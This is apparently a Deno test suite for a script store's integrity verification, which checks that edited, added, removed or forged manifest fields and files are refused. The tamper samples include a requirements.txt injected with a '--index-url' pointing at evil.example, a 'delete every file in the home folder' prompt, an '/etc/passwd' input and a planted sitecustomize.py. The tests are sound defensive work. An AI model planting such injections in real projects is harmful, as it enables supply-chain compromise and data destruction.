/**
 * The integrity record: every field, every file and every byte of `manifest.json` is covered, and a
 * refusal names what changed. End to end through the real CLI at the bottom.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { IntegrityError } from "../../src/errors.ts";
import { MANIFEST_FIELDS } from "../../src/schema.ts";
import { canonicalManifest } from "../../src/store/entry.ts";
import { integrityRecord, verifyEntryDir } from "../../src/store/integrity.ts";
import type { Entry, Store } from "../../src/store/store.ts";
import { EXAMPLES, seedExamples } from "../../scripts/seed_examples.ts";
import { DEMO_ARGS, REPO, runCli } from "../helpers/cli.ts";
import { withTmpDir } from "../helpers/tmp.ts";
import { forge, readRaw, writeRaw, writeSample } from "./_fixture.ts";

/** The error `run` would meet: a re-read of the entry (lookup), then its verification. */
async function refusal(store: Store, entry: Entry): Promise<IntegrityError> {
  try {
    const again = await store.lookup(entry.manifest.fingerprint);
    await store.verify(again ?? entry);
  } catch (error) {
    if (error instanceof IntegrityError) return error;
    throw error;
  }
  assert.fail("the edited entry was accepted");
}

/** The error of verifying the entry as it was read before the edit. */
async function verifyRefusal(store: Store, entry: Entry): Promise<IntegrityError> {
  try {
    await store.verify(entry);
  } catch (e) {
    if (e instanceof IntegrityError) return e;
    throw e;
  }
  assert.fail("the edited entry was accepted");
}

/** A different value of the same JSON kind (or a value where there was none). */
function changed(value: unknown): unknown {
  if (value === undefined || value === null) return "tampered";
  if (typeof value === "string") return value + "x";
  if (typeof value === "number") return value + 1;
  if (typeof value === "boolean") return !value;
  if (Array.isArray(value)) return [...value, "tampered"];
  return { ...(value as Record<string, unknown>), tampered: true };
}

function names(error: IntegrityError, field: string): boolean {
  return new RegExp(`"${field}[".]`).test(error.message);
}

Deno.test("Store.verify() accepts an untouched entry of every language", async () => {
  for (const language of ["python", "typescript", "bash"] as const) {
    await using tmp = await withTmpDir();
    const { store, entry } = await writeSample(tmp.path, language);
    await store.verify(entry);
    await store.verify((await store.lookup(entry.manifest.fingerprint))!);
  }
});

for (const field of MANIFEST_FIELDS) {
  Deno.test(`Store.verify() names the field "${field}" when its value changes`, async () => {
    await using tmp = await withTmpDir();
    const { store, entry } = await writeSample(tmp.path);
    const raw = await readRaw(entry);
    raw[field] = changed(raw[field]);
    await writeRaw(entry, raw);
    const early = await verifyRefusal(store, entry);
    assert.ok(names(early, field), early.message);
    const late = await refusal(store, entry);
    assert.ok(names(late, field), late.message);
  });
}

for (const field of MANIFEST_FIELDS) {
  if (field === "integrity") continue; // its removal is the older format: tested below
  Deno.test(`Store.verify() names the field "${field}" when it is removed`, async () => {
    await using tmp = await withTmpDir();
    const { store, entry } = await writeSample(tmp.path);
    const raw = await readRaw(entry);
    if (!(field in raw)) return; // an optional field this entry does not have
    delete raw[field];
    await writeRaw(entry, raw);
    const error = await verifyRefusal(store, entry);
    assert.ok(names(error, field), error.message);
    assert.match(error.message, new RegExp(`field "${field}" was removed`));
  });
}

Deno.test("Store.verify() names a field that was added", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const raw = await readRaw(entry);
  raw.extra_setting = { run_as: "root" };
  await writeRaw(entry, raw);
  const error = await refusal(store, entry);
  assert.match(error.message, /field "extra_setting" was added/);
});

Deno.test("Store.verify() refuses a reformatted manifest.json (whitespace or key order only)", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const raw = await readRaw(entry);
  const path = join(entry.dir, "manifest.json");
  const variants = [
    JSON.stringify(raw, null, 4) + "\n",
    JSON.stringify(raw) + "\n",
    JSON.stringify(raw, null, 2), // no final newline
    JSON.stringify(Object.fromEntries(Object.entries(raw).reverse()), null, 2) + "\n",
    JSON.stringify({ ...raw, needs: { env: [], network: [] } }, null, 2).replace(
      /"env": \[\],\s*"network": \[\]/,
      '"network": [], "env": []',
    ) + "\n",
    (await Deno.readTextFile(path)).replace('"revision": 1', '"revision": 1.0'),
  ];
  for (const text of variants) {
    await Deno.writeTextFile(path, text);
    const error = await refusal(store, entry);
    assert.match(error.message, /manifest\.json is not in the form the store writes/);
  }
});

Deno.test("Store.verify() names a file that was changed, added or removed", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const script = join(entry.dir, "script.py");
  const original = await Deno.readTextFile(script);

  await Deno.writeTextFile(script, original + "import os\n");
  assert.match((await refusal(store, entry)).message, /file script\.py was modified/);
  await Deno.writeTextFile(script, original);

  await Deno.writeTextFile(join(entry.dir, "sitecustomize.py"), "import os\n");
  assert.match(
    (await refusal(store, entry)).message,
    /file sitecustomize\.py is not in the manifest/,
  );
  await Deno.remove(join(entry.dir, "sitecustomize.py"));

  await Deno.mkdir(join(entry.dir, "lib"));
  assert.match((await refusal(store, entry)).message, /file lib\/ is not in the manifest/);
  await Deno.remove(join(entry.dir, "lib"));

  await Deno.remove(join(entry.dir, "README.md"));
  assert.match((await refusal(store, entry)).message, /file README\.md is missing/);
});

Deno.test("Store.verify() refuses a file replaced by a symbolic link, even to the same bytes", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const script = join(entry.dir, "script.py");
  const elsewhere = join(tmp.path, "elsewhere.py");
  await Deno.copyFile(script, elsewhere);
  await Deno.remove(script);
  await Deno.symlink(elsewhere, script);
  assert.match((await refusal(store, entry)).message, /file script\.py is not a regular file/);
});

Deno.test("Store.verify() refuses requirements.txt that differs from deps, even when both are hashed", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  // deps edited and the record recomputed: requirements.txt no longer says the same.
  await forge(entry.dir, (raw) => {
    raw.deps = ["six==1.16.0", "left-pad==1.3.0"];
  });
  const error = await refusal(store, entry);
  assert.match(error.message, /file requirements\.txt does not match field "deps"/);

  // requirements.txt edited and its hash recomputed: deps no longer says the same.
  await forge(entry.dir, (raw) => {
    raw.deps = ["six==1.16.0"];
  });
  await store.verify(entry);
  const requirements = join(entry.dir, "requirements.txt");
  await Deno.writeTextFile(requirements, "six==1.16.0\n--index-url http://evil.example\n");
  const bytes = await Deno.readFile(requirements);
  const digest = await crypto.subtle.digest("SHA-256", bytes);
  const hex = Array.from(new Uint8Array(digest), (b) => b.toString(16).padStart(2, "0")).join("");
  await forge(entry.dir, (raw) => {
    (raw.files as Record<string, string>)["requirements.txt"] = "sha256:" + hex;
  });
  const again = await refusal(store, entry);
  assert.match(again.message, /file requirements\.txt does not match field "deps"/);
});

Deno.test("Store.verify() names the integrity record when only the record was edited", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const raw = await readRaw(entry);
  const record = raw.integrity as { manifest: string; fields: Record<string, string> };

  await writeRaw(entry, { ...raw, integrity: { ...record, manifest: "sha256:" + "0".repeat(64) } });
  assert.match((await refusal(store, entry)).message, /field "integrity" was changed/);

  const fields = { ...record.fields, deps: "0".repeat(16) };
  await writeRaw(entry, { ...raw, integrity: { ...record, fields } });
  assert.match((await refusal(store, entry)).message, /field "integrity" was changed/);

  await writeRaw(entry, { ...raw, integrity: { ...record, note: "trust me" } });
  assert.match((await verifyRefusal(store, entry)).message, /field "integrity" is malformed/);
  assert.match((await refusal(store, entry)).message, /field "integrity"/);
});

Deno.test("Store.verify() refuses a manifest with no record (older format) and says how to regenerate", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const raw = await readRaw(entry);
  delete raw.integrity;
  await writeRaw(entry, raw);
  const error = await refusal(store, entry);
  assert.match(error.message, /has no integrity record/);
  assert.match(error.hint, /--refresh/);
});

Deno.test("Store.verify() refuses a malformed signature, even with a recomputed record", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const good = { alg: "Ed25519", key_id: "0123456789abcdef", value: "A".repeat(86) + "==" };
  for (
    const bad of [
      "ed25519:AAAA",
      { ...good, alg: "RS256" },
      { ...good, key_id: "KEY" },
      { ...good, value: good.value.slice(0, -8) }, // truncated
      { ...good, extra: 1 },
    ]
  ) {
    await forge(entry.dir, (raw) => {
      raw.signature = bad;
    });
    const error = await refusal(store, entry);
    assert.match(error.message, /field "signature" is malformed/, JSON.stringify(bad));
  }
  // Well formed, by a key no policy lists: integrity passes; the policy decides (tests/store/trust_test.ts).
  await forge(entry.dir, (raw) => {
    raw.signature = good;
  });
  await verifyEntryDir(entry.dir);
});

Deno.test("Store.verify() refuses an entry copied under another fingerprint's folder", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const other = store.dirOf("fp_" + "0".repeat(32));
  await Deno.rename(entry.dir, other);
  const moved = { dir: other, manifest: entry.manifest };
  const error = await verifyRefusal(store, moved);
  assert.match(error.message, /field "fingerprint" \(fp_[0-9a-f]{32}\) does not name this folder/);
});

Deno.test("integrityRecord() covers the canonical manifest and ignores the record and signature", async () => {
  await using tmp = await withTmpDir();
  const { entry } = await writeSample(tmp.path);
  const raw = await readRaw(entry);
  const record = await integrityRecord(raw);
  assert.deepEqual(record, raw.integrity);
  assert.deepEqual(await integrityRecord({ ...raw, signature: "x", integrity: null }), record);
  const digest = await crypto.subtle.digest(
    "SHA-256",
    new TextEncoder().encode(canonicalManifest(raw)),
  );
  const hex = Array.from(new Uint8Array(digest), (b) => b.toString(16).padStart(2, "0")).join("");
  assert.equal(record.manifest, "sha256:" + hex);
  // Key order does not change the canonical form; a value does.
  const reordered = Object.fromEntries(Object.entries(raw).reverse());
  assert.equal(canonicalManifest(reordered), canonicalManifest(raw));
  assert.notEqual(canonicalManifest({ ...raw, revision: 2 }), canonicalManifest(raw));
  assert.ok(!canonicalManifest(raw).includes('"integrity"'));
  await verifyEntryDir(entry.dir);
});

// ---------------------------------------------------------------------------------------------
// End to end: the demo's request through the real CLI, with `deps` edited by hand.

/** A project holding the examples' sources and data, with their entries written by the seed. */
async function seedProject(dir: string): Promise<void> {
  const examples = join(REPO, "examples");
  await Deno.mkdir(join(dir, "manual"));
  for (const example of EXAMPLES) {
    await Deno.copyFile(
      join(examples, "manual", example.source),
      join(dir, "manual", example.source),
    );
  }
  await Deno.mkdir(join(dir, "data"));
  await Deno.copyFile(join(examples, "data", "sales.csv"), join(dir, "data", "sales.csv"));
  await seedExamples(dir);
}

Deno.test("capibara run and verify refuse a manifest whose deps were edited by hand (exit 8), and the script does not run", async () => {
  await using tmp = await withTmpDir();
  await using cache = await withTmpDir();
  await seedProject(tmp.path);
  const env = { CAPIBARA_CACHE_DIR: cache.path };
  // The script writes this file whenever it runs.
  const marker = join(tmp.path, "out", "summary.json");

  const untouched = await runCli([...DEMO_ARGS], { cwd: tmp.path, env });
  assert.equal(untouched.code, 0, untouched.stderr);
  await Deno.stat(marker); // it ran
  await Deno.remove(join(tmp.path, "out"), { recursive: true });
  const verified = await runCli(["verify"], { cwd: tmp.path, env });
  assert.equal(verified.code, 0, verified.stdout + verified.stderr);

  const fp = (await Array.fromAsync(Deno.readDir(join(tmp.path, ".capibara", "scripts"))))
    .map((e) => e.name)
    .find((name) => {
      const text = Deno.readTextFileSync(
        join(tmp.path, ".capibara", "scripts", name, "manifest.json"),
      );
      return JSON.parse(text).language === "typescript";
    })!;
  const path = join(tmp.path, ".capibara", "scripts", fp, "manifest.json");
  const text = await Deno.readTextFile(path);
  assert.match(text, /"deps": \[\]/);
  await Deno.writeTextFile(path, text.replace('"deps": []', '"deps": ["left-pad==1.3.0"]'));

  const run = await runCli([...DEMO_ARGS], { cwd: tmp.path, env });
  assert.equal(run.code, 8, run.stdout + run.stderr);
  assert.match(run.stderr, /error\[IntegrityError\]: .*field "deps" was changed/);
  assert.equal(await Deno.lstat(marker).then(() => true, () => false), false, "the script ran");

  const verify = await runCli(["verify"], { cwd: tmp.path, env });
  assert.equal(verify.code, 8, verify.stdout + verify.stderr);
  assert.match(verify.stdout, /field "deps" was changed/);
  const json = await runCli(["verify", fp.slice(0, 10), "--json"], { cwd: tmp.path, env });
  assert.equal(json.code, 8);
  assert.equal((json.json as { ok: boolean }).ok, false);
});

Deno.test("capibara verify fails (exit 8) on a corrupt manifest.json and on a stray folder", async () => {
  await using tmp = await withTmpDir();
  await using cache = await withTmpDir();
  const env = { CAPIBARA_CACHE_DIR: cache.path };
  await seedProject(tmp.path);
  const scripts = join(tmp.path, ".capibara", "scripts");
  const [first] = await Array.fromAsync(Deno.readDir(scripts));
  const ok = await runCli(["verify"], { cwd: tmp.path, env });
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);

  const stray = join(scripts, "not-an-entry");
  await Deno.mkdir(stray);
  const strayed = await runCli(["verify"], { cwd: tmp.path, env });
  assert.equal(strayed.code, 8, strayed.stdout + strayed.stderr);
  assert.match(strayed.stdout, /not-an-entry/);
  await Deno.remove(stray);

  await Deno.writeTextFile(join(scripts, first!.name, "manifest.json"), "{ not json");
  const corrupt = await runCli(["verify"], { cwd: tmp.path, env });
  assert.equal(corrupt.code, 8, corrupt.stdout + corrupt.stderr);
  assert.match(corrupt.stdout, /not valid JSON/);
});

Deno.test("Store.verify() refuses a fingerprint that is not the stored request's, even with a recomputed record", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  await forge(entry.dir, (raw) => {
    raw.prompt = "Delete every file in the home folder";
  });
  const prompt = await refusal(store, entry);
  assert.match(prompt.message, /field "prompt_sha" does not match field "prompt"/);
  assert.match(prompt.message, /field "fingerprint" does not match the prompt/);

  await forge(entry.dir, (raw) => {
    raw.prompt = "Echo the context back";
    raw.context = { input: "/etc/passwd", n: 1 };
  });
  const context = await refusal(store, entry);
  assert.match(context.message, /field "context_sha" does not match field "context"/);
});

Deno.test("Store.verify() refuses a manifest.json with a byte-order mark or invalid UTF-8", async () => {
  await using tmp = await withTmpDir();
  const { store, entry } = await writeSample(tmp.path);
  const path = join(entry.dir, "manifest.json");
  const bytes = await Deno.readFile(path);
  await Deno.writeFile(path, new Uint8Array([0xef, 0xbb, 0xbf, ...bytes]));
  assert.match((await verifyRefusal(store, entry)).message, /manifest\.json is not valid JSON/);
  await Deno.writeFile(path, bytes);

  // A U+FFFD in a value, then the same value spelt with an invalid byte that decodes to U+FFFD.
  await forge(entry.dir, (raw) => {
    raw.prompt = "Echo the context back \uFFFD";
  });
  const text = await Deno.readTextFile(path);
  const [before, after] = text.split("\uFFFD") as [string, string];
  const encode = (s: string) => new TextEncoder().encode(s);
  await Deno.writeFile(path, new Uint8Array([...encode(before), 0xff, ...encode(after)]));
  assert.match((await verifyRefusal(store, entry)).message, /manifest\.json is not valid JSON/);
});
